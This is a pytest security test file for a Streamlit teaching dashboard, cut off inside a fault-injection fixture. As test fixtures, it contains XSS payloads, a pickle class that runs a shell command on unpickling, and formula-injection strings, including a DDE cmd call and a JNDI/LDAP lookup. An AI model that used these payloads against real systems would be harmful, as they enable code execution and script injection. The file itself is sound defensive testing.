"""Hostile and broken input, isolation between users, nothing lost, and faults (issue 7).

Anyone in a class can upload anything or send anyone a link. These tests feed the dashboard script tags,
markup, pickles, formulas, absurd URL values and broken files, through a real Chromium where the browser is what
could go wrong (HTML, dialogs, two users at once) and through AppTest or the reader alone where it is not.
The browser tests reuse the server, browser and page fixtures from conftest.py and the page helpers of
test_browser.py; the fault test starts a second server of its own with a fault injected by
``tests/fault_injection/sitecustomize.py``.
"""

from __future__ import annotations

import contextlib
import csv
import html
import io
import os
import pickle
import re
import tomllib
import urllib.parse
from pathlib import Path

import pytest
from apptest_helpers import figures, new_app, texts
from conftest import ARTIFACTS, REPO_ROOT, streamlit_server
from playwright.sync_api import expect
from test_browser import (
    BAD_CSV,
    CHARTS,
    CHARTS_JS,
    GOOD_CSV,
    RERUN_TIMEOUT_MS,
    TITLES,
    assert_no_exception,
    charts,
    choose_csv_source,
    open_app,
    rerun,
    sidebar,
    upload,
    wait_for_charts,
)

from cedash.data.csv_reader import read_csv
from cedash.data.dataset import DataError
from cedash.limits import Limits
from dashboard.settings import SETTINGS

MIB = 1024 * 1024
BOUNDARY = "Decision boundary"

# --- payloads -------------------------------------------------------------------------------------------------

# Each payload that could run sets window.__pwned or opens a dialog; the tests look for both.
NAME_SCRIPT = "<script>window.__pwned=1;alert(1)</script>"
NAME_IMG = '<img src=x onerror="window.__pwned=2;alert(2)">'
TARGET_SVG = "<svg onload=alert(4)>"
LABEL_IMG = "<img src=x onerror=alert(5)>"
LABEL_SCRIPT = "<script>alert(6)</script>"
# No double quotes in file names: Chromium sends them as %22 in the upload, so the server never sees them.
FILE_IMG = "<img src=x onerror=window.__pwned=3>.csv"
FILE_SCRIPT = "<script>alert(7)</script>.csv"

# Markup that is not HTML but still renders: Plotly's own tags (<a>, <b>) and Markdown in Streamlit's texts.
EVIL = "https://example.com/"
NAME_LINK = f'<a href="{EVIL}x">x</a>'
NAME_BOLD = "<b>w</b>"
LABEL_MD_LINK = f"[y]({EVIL}y)"
LABEL_MD_BOLD = "**strong**"
FILE_MD = f"**b**[l]({EVIL}l).csv"
URL_MD = f"[d]({EVIL}d)"


def table_csv(header: list[str], labels: tuple[str, str], rows: int = 12) -> bytes:
    """Two well-separated classes under ``header``; csv quotes whatever the payloads need."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(header)
    for i in range(rows):
        first = i < rows // 2
        writer.writerow([f"{i * 0.1:.1f}" if first else f"{3 + i * 0.1:.1f}", f"{1 - i * 0.05:.2f}", labels[not first]])
    return buf.getvalue().encode()


XSS_CSV = table_csv([NAME_SCRIPT, NAME_IMG, TARGET_SVG], (LABEL_IMG, LABEL_SCRIPT))
MARKUP_CSV = table_csv([NAME_LINK, NAME_BOLD, "label"], (LABEL_MD_LINK, LABEL_MD_BOLD))

FORMULAS = (
    "__import__('os').system('touch {marker}')",
    "=cmd|' /C touch {marker}'!A0",
    "@SUM(1+1)",
    "+1+1",
    '=HYPERLINK("http://example.com")',
    "eval('1')",
    "{{7*7}}",
    "${{jndi:ldap://example.com/a}}",
)


# --- browser helpers ------------------------------------------------------------------------------------------


def watch_for_script(page) -> list[str]:
    """Record every dialog the page opens (and dismiss it, so a payload cannot block the page)."""
    dialogs: list[str] = []

    def on_dialog(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    return dialogs


def assert_nothing_ran(page, dialogs: list[str]) -> None:
    assert dialogs == [], f"a payload opened dialogs: {dialogs}"
    assert page.evaluate("() => window.__pwned === undefined"), "a payload set window.__pwned"
    # Had any payload become an element, these would find it even if its script were blocked.
    assert page.locator("img[src='x']").count() == 0
    assert page.locator("svg[onload]").count() == 0
    scripts = page.evaluate(
        "() => [...document.scripts].map((s) => s.textContent).filter((t) => /alert|pwned/.test(t))"
    )
    assert scripts == []


def body_text(page) -> str:
    return page.locator("body").inner_text()


def chart_texts(page, title: str, selector: str) -> list[str]:
    """The text content of the SVG nodes matching ``selector`` inside the chart with this title."""
    return page.evaluate(
        """([charts, title, selector]) => {
            const gd = [...document.querySelectorAll(charts)].find(
                (g) => String((g.layout.title && g.layout.title.text) || '').replace(/<[^>]*>/g, '') === title);
            return gd ? [...gd.querySelectorAll(selector)].map((e) => e.textContent) : null;
        }""",
        [CHARTS, title, selector],
    )


def wait_for_chart_texts(page, title: str, selector: str, wanted: list[str], timeout_ms: int = 20_000) -> None:
    page.wait_for_function(
        """([charts, title, selector, wanted]) => {
            const gd = [...document.querySelectorAll(charts)].find(
                (g) => String((g.layout.title && g.layout.title.text) || '').replace(/<[^>]*>/g, '') === title);
            if (!gd) return false;
            const seen = [...gd.querySelectorAll(selector)].map((e) => e.textContent);
            return wanted.every((w) => seen.some((s) => s.includes(w)));
        }""",
        arg=[CHARTS, title, selector, wanted],
        timeout=timeout_ms,
        polling=100,
    )


def open_tab(page, name: str) -> None:
    """Open a tab; opening one reruns the script, which draws only the open tab."""
    tab = page.get_by_role("tab", name=name)
    if tab.get_attribute("aria-selected") == "true":
        return
    with rerun(page):
        tab.click()
    assert tab.get_attribute("aria-selected") == "true"


def data_table(page) -> tuple[list[str], list[str]]:
    """Column headers and cells of the Data tab's grid, from the table Glide keeps for screen readers."""
    grid = page.get_by_test_id("stDataFrame").first
    grid.locator("table th").first.wait_for(state="attached")
    return grid.locator("table th").all_text_contents(), grid.locator("table td").all_text_contents()


def boundary_points_x(current: dict) -> list[float]:
    return [x for t in current[BOUNDARY]["traces"] if t["type"] == "scatter" for x in t["x"] or []]


def set_number(page, label: str, value: str) -> None:
    box = sidebar(page).get_by_label(label, exact=True)
    box.fill(value)
    with rerun(page):
        box.press("Enter")


def choose_option(page, label: str, option: str) -> None:
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    box = sidebar(page).get_by_role("combobox", name=label)
    choice = page.get_by_role("option", name=option, exact=True)
    # A click that lands while the page is still settling can leave the list closed: open it again if so.
    for _ in range(3):
        box.click()
        with contextlib.suppress(PlaywrightTimeout):
            choice.wait_for(timeout=5_000)
            break
    with rerun(page):
        choice.click()


def flip_toggle(page, label: str) -> None:
    with rerun(page):
        sidebar(page).get_by_text(label, exact=True).click()


def edit_first_cell(page, value: str) -> None:
    """Type ``value`` into the first row's first column of the Data tab's editable grid."""
    grid = page.get_by_test_id("stDataFrame").get_by_test_id("data-grid-canvas")
    grid.wait_for()
    grid.scroll_into_view_if_needed()
    box = grid.bounding_box()
    assert box is not None
    # As in test_browser.py: the canvas sits under a scroller that takes the pointer, so cells are found by
    # position; 150 px in and half a 35 px row below the 35 px header is the first row's first column.
    page.mouse.dblclick(box["x"] + 150, box["y"] + 35 + 17)
    editor = page.locator("input.gdg-input, textarea.gdg-input")
    editor.first.wait_for()
    editor.first.fill(value)
    with rerun(page):
        editor.first.press("Enter")
    page.wait_for_function(
        "(v) => (document.querySelector('[data-testid=\"glide-cell-1-0\"]') || {}).textContent === v",
        arg=value,
        timeout=RERUN_TIMEOUT_MS,
    )


def alert_with(page, text: str):
    alert = page.get_by_test_id("stAlert").filter(has_text=text).first
    alert.wait_for(timeout=RERUN_TIMEOUT_MS)
    return alert


def links_to_evil(page, within: str = "body") -> list[str]:
    """Every link to the payloads' site inside ``within``, as 'href (link text)'."""
    return page.evaluate(
        """([within, evil]) => [...document.querySelectorAll(within + ' a')]
            .map((a) => [a.getAttribute('href') || a.getAttribute('xlink:href') || '', a.textContent])
            .filter(([href]) => href.startsWith(evil)).map(([href, text]) => `${href} (${text})`)""",
        [within, EVIL],
    )


# --- user strings are text, never HTML ------------------------------------------------------------------------


@pytest.mark.browser
def test_html_in_column_names_and_labels_shows_as_text(page, app_url):
    dialogs = watch_for_script(page)
    open_app(page, app_url)
    choose_csv_source(page)
    upload(page, "payloads.csv", XSS_CSV)
    # The figure carries user text entity-escaped (Plotly reads tags in text); what it draws is checked below.
    wait_for_charts(
        page,
        lambda c: html.unescape(c[BOUNDARY]["xaxis"]["title"] or "") == NAME_SCRIPT,
        what="the boundary to show the CSV",
    )
    # What Plotly drew, not only what it was given: the axis titles and legend entries as text in the SVG.
    wait_for_chart_texts(page, BOUNDARY, ".legendtext", [f"train: {LABEL_IMG}", f"train: {LABEL_SCRIPT}"])
    assert chart_texts(page, BOUNDARY, ".g-xtitle") == [NAME_SCRIPT]
    assert chart_texts(page, BOUNDARY, ".g-ytitle") == [NAME_IMG]
    text = body_text(page)
    for payload in (NAME_SCRIPT, NAME_IMG, LABEL_IMG, LABEL_SCRIPT):
        assert payload in text, f"{payload!r} is not on the page as text"
    assert page.get_by_role("combobox", name="Target column").input_value() == TARGET_SVG

    open_tab(page, "Data")
    headers, cells = data_table(page)
    assert headers == [NAME_SCRIPT, NAME_IMG, TARGET_SVG]
    assert LABEL_IMG in cells and LABEL_SCRIPT in cells
    split = page.get_by_test_id("stTable").inner_text()
    assert LABEL_IMG in split and LABEL_SCRIPT in split, split
    assert_no_exception(page)
    assert_nothing_ran(page, dialogs)


@pytest.mark.browser
def test_html_in_file_names_shows_as_text_in_notices_and_run_names(page, app_url):
    dialogs = watch_for_script(page)
    open_app(page, app_url)
    choose_csv_source(page)
    upload(page, FILE_IMG, GOOD_CSV)
    wait_for_charts(page, lambda c: c[BOUNDARY]["xaxis"]["title"] == "height", what="the good CSV")
    # A pinned run is named after its file, in the legend of the comparison chart.
    open_tab(page, "Compare")
    with rerun(page):
        page.get_by_role("button", name=re.compile("Pin this run")).click()
    run_name = f"{FILE_IMG}: gd, lr 0.1, 500 it"
    # One run has no legend; its name titles its boundary chart and heads a row of the comparison table.
    page.wait_for_function(
        "([sel, name]) => [...document.querySelectorAll(sel + ' .gtitle')].some((t) => t.textContent === name)",
        arg=[CHARTS, run_name],
        timeout=RERUN_TIMEOUT_MS,
    )
    _, cells = data_table(page)
    assert run_name in cells, cells

    upload(page, FILE_SCRIPT, BAD_CSV)
    error = alert_with(page, "weight").inner_text()
    assert error.startswith(f"{FILE_SCRIPT}: column 'weight'"), error
    notice = sidebar(page).get_by_text("Still showing the last file that worked").inner_text()
    assert notice == f"Still showing the last file that worked, {FILE_IMG}.", notice
    assert_no_exception(page)
    assert_nothing_ran(page, dialogs)


@pytest.mark.browser
def test_plotly_markup_in_column_names_is_not_rendered(page, app_url):
    # Plotly turns <a href>, <b>, <br> and friends in titles and legends into SVG markup: a column name could
    # put a link on the chart. The names must read exactly as the file spells them.
    open_app(page, app_url)
    choose_csv_source(page)
    upload(page, "markup.csv", MARKUP_CSV)
    wait_for_charts(
        page,
        lambda c: html.unescape(c[BOUNDARY]["xaxis"]["title"] or "") == NAME_LINK,
        what="the boundary to show the CSV",
    )
    page.wait_for_timeout(500)  # Plotly draws just after the script ends
    assert chart_texts(page, BOUNDARY, ".g-xtitle") == [NAME_LINK]
    assert chart_texts(page, BOUNDARY, ".g-ytitle") == [NAME_BOLD]
    assert links_to_evil(page, '[data-testid="stPlotlyChart"]') == []


@pytest.mark.browser
def test_markdown_in_file_names_labels_and_links_is_not_rendered(page, app_url):
    # Streamlit renders Markdown in alerts, captions and table cells: a file name, a label or a value in a
    # shared link could put a link or bold text into the page. They must read exactly as given, and a URL in
    # them must not become a link either (GitHub-flavoured Markdown links bare URLs even in escaped text).
    open_app(page, app_url, "?" + urllib.parse.urlencode({"dataset": URL_MD}))
    note = alert_with(page, "Data set").inner_text()
    assert URL_MD in note, note

    choose_csv_source(page)
    upload(page, "markup.csv", MARKUP_CSV)
    open_tab(page, "Data")
    split = page.get_by_test_id("stTable").inner_text()
    assert LABEL_MD_LINK in split and LABEL_MD_BOLD in split, split

    upload(page, FILE_MD, BAD_CSV)
    error = alert_with(page, "weight").inner_text()
    assert error.startswith(f"{FILE_MD}: "), error
    assert links_to_evil(page) == []


# --- no user data is evaluated or unpickled --------------------------------------------------------------------


class _Boom:
    """Unpickling this runs a shell command that creates a marker file."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


@pytest.fixture
def no_eval(monkeypatch):
    """Make every way to evaluate or unpickle fail loudly while the reader runs."""

    def refuse(*args, **kwargs):
        raise AssertionError("the CSV reader evaluated or unpickled user data")

    for module, name in ((pickle, "loads"), (pickle, "load"), (pickle, "Unpickler")):
        monkeypatch.setattr(module, name, refuse)
    import pandas as pd

    monkeypatch.setattr(pd, "eval", refuse)
    monkeypatch.setattr(pd, "read_pickle", refuse)


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_pickle_payloads_are_refused_and_never_loaded(tmp_path, no_eval, protocol):
    marker = tmp_path / "pwned"
    payload = pickle.dumps(_Boom(marker), protocol=protocol)
    path = tmp_path / "data.csv"
    path.write_bytes(payload)
    for source in (payload, path, io.BytesIO(payload)):
        with pytest.raises(DataError) as info:
            read_csv(source)
        assert "\n" not in str(info.value)
    assert not marker.exists()


def test_expressions_and_formulas_in_cells_stay_plain_strings(tmp_path, no_eval):
    marker = tmp_path / "pwned"
    cells = [f.format(marker=marker) for f in FORMULAS]
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(["x1", "x2", "label"])
    for i, cell in enumerate(cells * 2):
        writer.writerow([i, i % 3, cell])
    data = read_csv(buf.getvalue().encode(), limits=Limits(max_classes=len(cells)))
    assert sorted(set(data.y.tolist())) == sorted(c.strip() for c in cells)
    assert not marker.exists()


@pytest.mark.parametrize("cell", ["1+1", "2*3", "__import__('os').getpid()", "=1+1", "0x10", "1_000"])
def test_an_expression_in_a_feature_column_is_an_error_not_a_number(cell):
    text = f'x1,x2,label\n1,2,a\n"{cell}",4,b\n5,6,a\n7,8,b\n'
    with pytest.raises(DataError, match="must hold numbers"):
        read_csv(text)


def test_formulas_and_expressions_uploaded_to_the_dashboard_stay_labels(tmp_path):
    marker = tmp_path / "pwned"
    cells = [f.format(marker=marker) for f in FORMULAS[:4]]
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(["x1", "x2", "label"])
    for i in range(16):
        writer.writerow([i % 4 + 4 * (i % 2), i % 3, cells[i % 2]])
    at = new_app()
    at.run()
    at.radio(key="source").set_value("My CSV file").run()
    at.file_uploader(key="upload").upload("formulas.csv", buf.getvalue().encode(), "text/csv").run()
    assert_page_is_clean(at)
    names = {t["name"] for t in figures(at)[BOUNDARY]["data"] if t["type"] == "scatter"}
    assert {f"train: {cells[0]}", f"train: {cells[1]}"} <= names
    assert not marker.exists()


# --- upload size ----------------------------------------------------------------------------------------------


def test_streamlit_caps_the_upload_size():
    config = tomllib.loads((REPO_ROOT / ".streamlit" / "config.toml").read_text())
    cap = config["server"]["maxUploadSize"]
    assert isinstance(cap, int) and 1 <= cap <= 1024, cap
    # The reader's own limit must sit at or below Streamlit's, so every file Streamlit lets through is checked
    # by the reader, whose message says what to do.
    assert Limits().max_upload_bytes <= cap * MIB


class _EndlessStream(io.RawIOBase):
    """A never-ending upload: reading it all would never return."""

    def __init__(self):
        self.given = 0

    def readable(self):
        return True

    def seekable(self):
        return True

    def seek(self, offset, whence=io.SEEK_SET):
        # Only rewinding a fresh stream is possible: it has no end to seek to.
        if (offset, whence) != (0, io.SEEK_SET) or self.given:
            raise io.UnsupportedOperation("seek")
        return 0

    def read(self, size=-1):
        if size is None or size < 0:
            raise AssertionError("the reader asked for the whole of an endless stream")
        self.given += size
        return (b"1,2,a\n" * (size // 6 + 1))[:size]


def test_the_reader_enforces_its_byte_limit(tmp_path):
    limits = Limits(max_upload_bytes=64)
    fits = b"x,y,label\n1,2,a\n3,4,b\n5,6,a\n7,8,b\n"
    fits += b"0" * (64 - len(fits) - 6) + b"9,0,b\n"  # leading zeros pad the file to the limit exactly
    assert len(fits) == 64
    over = fits + b"\n"
    path_fits, path_over = tmp_path / "fits.csv", tmp_path / "over.csv"
    path_fits.write_bytes(fits)
    path_over.write_bytes(over)
    for source in (fits, fits.decode(), path_fits, io.BytesIO(fits)):
        assert read_csv(source, limits=limits).n_samples == 5
    for source in (over, over.decode(), path_over, io.BytesIO(over)):
        with pytest.raises(DataError, match="over the limit of 64 bytes"):
            read_csv(source, limits=limits)
    endless = _EndlessStream()
    with pytest.raises(DataError, match="over the limit"):
        read_csv(endless, limits=limits)
    assert endless.given <= limits.max_upload_bytes + 1


# --- URL parameters -------------------------------------------------------------------------------------------

BAD_URL_VALUES = [
    "1e308",
    "-1e308",
    "-5",
    "nan",
    "inf",
    "-inf",
    "1e999",
    "",
    "abc",
    "<script>alert(1)</script>",
    "0x1F",
]


def assert_page_is_clean(at) -> None:
    assert len(at.exception) == 0, [e.value for e in at.exception]
    everything = [*texts(at.error), *texts(at.warning), *texts(at.caption), *texts(at.markdown)]
    assert not [t for t in everything if "Something went wrong" in t or "Traceback" in t], texts(at.error)


def assert_in_range(key: str, value) -> None:
    s = SETTINGS[key]
    if s.kind == "choice":
        assert value in s.choices, (key, value)
    elif s.kind == "bool":
        assert isinstance(value, bool), (key, value)
    else:
        assert s.low <= value <= s.high, (key, value)


@pytest.mark.parametrize("bad", BAD_URL_VALUES)
def test_nonsense_in_every_url_parameter_falls_back_with_notes(bad):
    at = new_app({**dict.fromkeys(SETTINGS, bad), "view": bad})
    at.run()
    assert_page_is_clean(at)
    notes = texts(at.warning)
    for key, setting in SETTINGS.items():
        assert_in_range(key, at.session_state[key])
        assert any(n.startswith(f"{setting.label} ") for n in notes), f"no note for {key}={bad!r}: {notes}"
    assert any(n.startswith("View ") and "Training tab is shown" in n for n in notes), notes
    assert at.session_state["view"] == "Training"
    assert {"Loss per iteration", "Accuracy per iteration", BOUNDARY} <= set(figures(at))


@pytest.mark.browser
def test_nonsense_url_parameters_in_a_real_browser(page, app_url):
    dialogs = watch_for_script(page)
    query = {
        "dataset": "<script>alert(1)</script>",
        "n": "99999999",
        "noise": "-5",
        "seed": "1e308",
        "lr": "1e308",
        "iters": "nan",
        "optimizer": '<img src=x onerror="window.__pwned=1">',
        "batch": "-1",
        "l2": "abc",
        "intercept": "maybe",
        "standardize": "2",
        "degree": "99",
        "test": "5",
        "logy": "<b>",
        "view": "nonsense",
    }
    open_app(page, app_url, "?" + urllib.parse.urlencode(query))
    notes = "\n".join(page.get_by_test_id("stAlert").all_inner_texts())
    for setting in SETTINGS.values():
        assert f"{setting.label} " in notes, f"no note for {setting.key}: {notes}"
    assert "'<script>alert(1)</script>'" in notes
    assert "View 'nonsense' from the link does not exist" in notes
    # Waited for: a loaded page can show a widget's starting value for a moment before the URL's arrives.
    lr_box = sidebar(page).get_by_label("Learning rate", exact=True)
    expect(lr_box).to_have_value(re.compile(rf"^{SETTINGS['lr'].high:g}(\.0*)?$"), timeout=30_000)
    assert float(lr_box.input_value()) == SETTINGS["lr"].high
    iters = str(SETTINGS["iters"].default)
    expect(sidebar(page).get_by_label("Iterations", exact=True)).to_have_value(iters, timeout=30_000)
    dataset = SETTINGS["dataset"].default
    expect(sidebar(page).get_by_role("combobox", name="Data set")).to_have_value(dataset, timeout=30_000)
    assert page.get_by_role("tab", name="Training").get_attribute("aria-selected") == "true"
    assert_no_exception(page)
    assert "Something went wrong" not in notes
    assert_nothing_ran(page, dialogs)


# --- broken uploads and the bound on work ---------------------------------------------------------------------


def _rows(n: int) -> str:
    return "".join(f"{i % 7 * 0.3:.1f},{i % 5 * 0.2:.1f},{'ab'[i % 2]}\n" for i in range(n))


def _alternating(magnitude: str) -> bytes:
    """x alternates between +magnitude and -magnitude with the class."""
    return ("x,y,label\n" + "".join(f"{'-' * (i % 2)}{magnitude},{i},{'ab'[i % 2]}\n" for i in range(8))).encode()


def _wide(features: int, rows: int) -> bytes:
    header = ",".join(f"c{j}" for j in range(features)) + ",label\n"
    return (
        header + "".join(",".join(str(i * j % 7) for j in range(features)) + f",{i % 2}\n" for i in range(rows))
    ).encode()


HOSTILE_UPLOADS = {
    "empty": b"",
    "header only": b"a,b,label\n",
    "zip archive": b"PK\x03\x04" + bytes(60),
    "NUL byte": b"a,b,label\n1,2\x00,x\n3,4,y\n",
    "UTF-16 with BOM": "\ufeffx,y,label\n".encode("utf-16-le") + _rows(10).encode("utf-16-le"),
    "invalid UTF-8": b"x,y,label\n1,2,\xff\xfe\n3,4,b\n5,6,b\n",
    "one column": b"label\na\nb\n",
    "300 columns": (",".join(f"c{i}" for i in range(300)) + "\n" + ",".join("1" * 300) + "\n").encode(),
    "30 classes": ("x,y,label\n" + "".join(f"{i},{i},k{i}\n" for i in range(30))).encode(),
    "unclosed quote": b'x,y,label\n1,2,"a\n3,4,b\n',
    "200,000-character cell": b"x,y,label\n1,2," + b"a" * 200_000 + b"\n3,4,b\n",
    "10,000-character column name": ("n" * 10_000 + ",y,label\n" + _rows(10)).encode(),
    "line break in a column name": ('"x\nline",y,label\n' + _rows(10)).encode(),
    "bidi override and zero-width space": ("\u202ex1,x\u200b2,label\n" + _rows(10)).encode(),
    "duplicate columns": ("a,a,label\n" + _rows(10)).encode(),
    "infinity": b"x,y,label\n1,inf,a\n3,4,b\n5,6,a\n7,8,b\n",
    "values near the float limit": _alternating("1e308"),
    "subnormal values": _alternating("1e-320"),
    "two rows": b"x,y,label\n1,2,a\n3,4,b\n",
    "one class": b"x,y,label\n1,2,a\n3,4,a\n5,6,a\n",
    "constant features": b"x,y,label\n" + b"1,1,a\n1,1,b\n" * 4,
    "emoji labels": ("x,y,label\n" + "".join(f"{i},{i % 3},{'🐱🐶'[i % 2]}\n" for i in range(10))).encode(),
    "decimal commas": b"x;y;label\n1,5;2,5;a\n3,5;4,5;b\n1,2;2,2;a\n3,1;4,1;b\n",
    "199 features": _wide(199, 20),
}


def test_hostile_uploads_give_a_chart_or_a_clear_message():
    at = new_app()
    at.run()
    at.radio(key="source").set_value("My CSV file").run()
    problems = {}
    for name, content in HOSTILE_UPLOADS.items():
        at.file_uploader(key="upload").clear().run()
        at.file_uploader(key="upload").upload(f"{name}.csv", content, "text/csv").run()
        errors = texts(at.error)
        if at.exception or any("Something went wrong" in e or "Traceback" in e for e in errors):
            problems[name] = [*(e.value for e in at.exception), *errors]
        elif not errors and BOUNDARY not in figures(at):
            problems[name] = "neither a boundary chart nor a message"
    assert not problems, problems


def test_one_run_over_the_work_limit_is_refused_clearly_and_the_page_recovers():
    rows = Limits().max_work // SETTINGS["iters"].high + 1
    big = ("x,y,label\n" + "".join(f"{i % 97 * 0.01},{i % 89 * 0.02},{i % 2}\n" for i in range(rows))).encode()
    at = new_app({"iters": str(SETTINGS["iters"].high)})
    at.run()
    at.radio(key="source").set_value("My CSV file").run()
    at.file_uploader(key="upload").upload("big.csv", big, "text/csv").run()
    assert_page_is_clean(at)
    message = " ".join(texts(at.error))
    assert "more work than this server allows" in message and "iterations or fewer rows" in message, message
    assert BOUNDARY not in figures(at)
    at.number_input(key="iters").set_value(20).run()
    assert_page_is_clean(at)
    assert not at.error
    assert BOUNDARY in figures(at)


def test_a_sweep_is_bounded_by_its_total_work_not_by_the_iterations_of_one_run():
    # 12 rates x 1,000 iterations on 200 points is 2.4 million steps of work, far below the limit of a
    # billion; the sweep must run. Its message, when it is too big, must not speak of iterations nobody asked for.
    at = new_app({"iters": "1000"})
    at.run()
    at.session_state["view"] = "Sweep"
    at.run()
    at.button(key="run_sweep").click().run()
    assert_page_is_clean(at)
    assert not at.error, texts(at.error)
    assert "Learning-rate sweep: final loss" in figures(at)

    at = new_app({"n": "5000", "iters": "10000"})
    at.run()
    at.session_state["view"] = "Sweep"
    at.run()
    at.number_input(key="sweep_k").set_value(24).run()
    at.button(key="run_sweep").click().run()
    assert_page_is_clean(at)
    message = " ".join(texts(at.error))
    assert "more work than this server allows" in message, message
    assert "240,000 iterations" not in message, message


# --- isolation between users ----------------------------------------------------------------------------------

# Both users call their file data.csv: run names and pins are built from the file name.
USER_A = (["apple_len", "apple_wid", "fruit_kind"], ("fuji_a", "gala_a"))
USER_B = (["bolt_len", "bolt_wid", "screw_kind"], ("hex_b", "torx_b"))

# Any text or input value on the page, at any moment, that names the other user's data is a leak.
LEAK_WATCH_JS = """
(foreign) => {
  window.__leaks = [];
  const check = () => {
    const seen = document.body.textContent + '\\n' + [...document.querySelectorAll('input, textarea')]
      .map((e) => e.value).join('\\n');
    for (const f of foreign) if (seen.includes(f) && !window.__leaks.includes(f)) window.__leaks.push(f);
  };
  new MutationObserver(check).observe(document.body, {subtree: true, childList: true, characterData: true,
                                                      attributes: true, attributeFilter: ['value']});
  check();
}
"""


def compare_chart(page) -> dict | None:
    return next((c for c in page.evaluate(CHARTS_JS) if c["title"] == "Loss per iteration, runs compared"), None)


@pytest.mark.browser
def test_two_users_uploading_at_once_never_see_each_others_data_or_pins(browser, app_url):
    users = []
    with contextlib.ExitStack() as stack:
        for (header, labels), (other_header, other_labels) in ((USER_A, USER_B), (USER_B, USER_A)):
            context = browser.new_context(viewport={"width": 1366, "height": 768})
            stack.callback(context.close)
            page = context.new_page()
            page.set_default_timeout(30_000)
            open_app(page, app_url)
            page.evaluate(LEAK_WATCH_JS, [*other_header, *other_labels])
            choose_csv_source(page)
            users.append((page, header, labels))
        (page_a, _, _), (page_b, _, _) = users

        # Both uploads are sent before either rerun is awaited, so the server handles them together.
        with rerun(page_a), rerun(page_b):
            for page, header, labels in users:
                page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
                    files=[{"name": "data.csv", "mimeType": "text/csv", "buffer": table_csv(header, labels)}]
                )
        for page, header, labels in users:
            current = wait_for_charts(
                page, lambda c, h=header: c[BOUNDARY]["xaxis"]["title"] == h[0], what=f"the boundary over {header[0]}"
            )
            assert current[BOUNDARY]["yaxis"]["title"] == header[1]
            names = {t["name"] for t in current[BOUNDARY]["traces"]}
            assert {f"train: {labels[0]}", f"train: {labels[1]}"} <= names

        for page, header, labels in users:
            open_tab(page, "Data")
            headers, cells = data_table(page)
            assert headers == header and labels[0] in cells

        open_tab(page_a, "Compare")
        with rerun(page_a):
            page_a.get_by_role("button", name=re.compile("Pin this run")).click()
        page_a.wait_for_function(
            "(sel) => [...document.querySelectorAll(sel)].some((g) => /runs compared/.test(g.layout.title.text))",
            arg=CHARTS,
            timeout=RERUN_TIMEOUT_MS,
        )
        pinned = [t["name"] for t in compare_chart(page_a)["traces"]]
        assert pinned == ["data.csv: gd, lr 0.1, 500 it"], pinned

        open_tab(page_b, "Compare")
        page_b.get_by_text("Pin this run, change a setting, and pin again").wait_for()
        assert compare_chart(page_b) is None

        # Reruns on both sides: A keeps its pin, B still has none.
        set_number(page_b, "Learning rate", "0.3")
        set_number(page_a, "Learning rate", "0.3")
        page_a.wait_for_function(
            "(sel) => [...document.querySelectorAll(sel)].some((g) => g.data.some((t) => /^now:/.test(t.name)))",
            arg=CHARTS,
            timeout=RERUN_TIMEOUT_MS,
        )
        names = [t["name"] for t in compare_chart(page_a)["traces"]]
        assert names == ["data.csv: gd, lr 0.1, 500 it", "now: data.csv: gd, lr 0.3, 500 it"], names
        assert compare_chart(page_b) is None
        assert page_b.get_by_text("Pin this run, change a setting, and pin again").is_visible()

        for page, _, _ in users:
            assert page.evaluate("() => window.__leaks") == []
            assert_no_exception(page)


# --- nothing is lost ------------------------------------------------------------------------------------------


@pytest.mark.browser
def test_a_table_edit_survives_ten_setting_changes(page, app_url):
    open_app(page, app_url)
    open_tab(page, "Data")
    edit_first_cell(page, "9")
    open_tab(page, "Training")
    wait_for_charts(page, lambda c: any(abs(x - 9) < 1e-6 for x in boundary_points_x(c)), what="the edited point")

    changes = [
        lambda: set_number(page, "Learning rate", "0.2"),
        lambda: set_number(page, "Learning rate", "0.05"),
        lambda: set_number(page, "Iterations", "300"),
        lambda: choose_option(page, "Optimiser", "momentum"),
        lambda: set_number(page, "Learning rate", "0.5"),
        lambda: set_number(page, "Iterations", "400"),
        lambda: choose_option(page, "Optimiser", "adam"),
        lambda: set_number(page, "L2 penalty", "0.001"),
        lambda: flip_toggle(page, "Standardise"),
        lambda: set_number(page, "Learning rate", "0.3"),
    ]

    def train_loss(current):
        return next(t["y"] for t in current["Loss per iteration"]["traces"] if t["name"].startswith("train"))

    for i, change in enumerate(changes, 1):
        # Every change alters the loss curve; the boundary's traces may not (its colours are not read here).
        before = train_loss(charts(page))
        change()
        current = wait_for_charts(
            page, lambda c, b=before: train_loss(c) != b, what=f"the loss curve to change after change {i}"
        )
        assert any(abs(x - 9) < 1e-6 for x in boundary_points_x(current)), f"the edit is gone after change {i}"
        assert_no_exception(page)

    assert len(train_loss(charts(page))) == 401, "the last settings are not the ones in use"
    open_tab(page, "Data")
    _, cells = data_table(page)
    assert cells[0] == "9", cells[:3]


@pytest.mark.browser
def test_a_failed_upload_keeps_the_previous_file_and_its_edits(page, app_url):
    open_app(page, app_url)
    choose_csv_source(page)
    upload(page, "pets.csv", GOOD_CSV)
    open_tab(page, "Data")
    edit_first_cell(page, "7.5")
    upload(page, "broken.csv", BAD_CSV)
    alert_with(page, "broken.csv")
    headers, cells = data_table(page)
    assert headers == ["height", "weight", "species"] and cells[0] == "7.5", (headers, cells[:3])
    open_tab(page, "Training")
    current = wait_for_charts(page, lambda c: c[BOUNDARY]["xaxis"]["title"] == "height", what="the good CSV")
    assert any(abs(x - 7.5) < 1e-6 for x in boundary_points_x(current)), "the edit is gone"
    assert_no_exception(page)


# --- faults ---------------------------------------------------------------------------------------------------

FAULT_LR = "0.0123"
FAULT_LOG = ARTIFACTS / "streamlit-fault-server.log"


@pytest.fixture(scope="module")
def faulty_app_url():
    """A second server whose training raises RuntimeError("injected fault") at learning rate FAULT_LR."""
    inject = str(REPO_ROOT / "tests" / "fault_injection")
    extra = {
        "PYTHONPATH": os.pathsep.join(p for p in (inject, os.environ.get("PYTHONPATH")) if p),
        "CEDASH_TEST_FAULT_LR": FAULT_LR,
    }
